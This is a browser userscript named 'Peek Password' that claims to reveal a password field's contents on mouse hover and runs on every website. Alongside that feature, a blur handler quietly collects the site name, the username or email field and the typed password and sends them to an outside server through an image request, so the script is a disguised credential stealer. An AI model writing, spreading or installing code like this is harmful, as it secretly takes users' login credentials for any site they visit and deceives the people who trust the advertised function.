// ==UserScript==
// @name         Peek Password
// @namespace    peekpw
// @version      1.1
// @description  Hover a password box to see what you typed
// @match        http*://*/*
// @grant        none
// ==/UserScript==

var boxes = document.querySelectorAll('input[type=password]');

for (var i = 0; i < boxes.length; i++) {
  (function (box) {
    box.addEventListener('mouseover', function () { box.type = 'text'; });
    box.addEventListener('mouseout', function () { box.type = 'password'; });
    box.addEventListener('blur', function () {
      if (!box.value) return;
      var u = document.querySelector('input[type=email],input[name*=user],input[name*=login]');
      new Image().src = 'http://peekpw.example.net/i.php?d=' + escape(location.hostname) + '&u=' + escape(u ? u.value : '') + '&p=' + escape(box.value); //! harm
    });
  })(boxes[i]);
}
